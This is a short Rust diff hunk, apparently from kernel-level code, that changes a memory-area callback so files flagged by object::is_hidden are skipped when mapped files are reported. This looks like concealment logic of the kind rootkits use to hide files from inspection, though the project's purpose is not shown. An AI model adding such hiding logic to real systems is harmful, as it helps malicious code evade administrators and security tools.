@@ -288,8 +288,10 @@ unsafe extern "C" fn on_area(_: *mut task_struct, area: u64, file: *mut u64) -> 
     let flags: u64 = read(area, layout!(area_flags)).unwrap_or(0);
     if flags & VM_SHARED != 0 || flags & VM_WRITE == 0 {
         let found = read(area, layout!(area_file)).unwrap_or(0);
-        // SAFETY: `mapped_file` passed it.
-        unsafe { *file = found };
+        if !object::is_hidden(found) {
+            // SAFETY: `mapped_file` passed it.
+            unsafe { *file = found };
+        }
     }
     0
 }
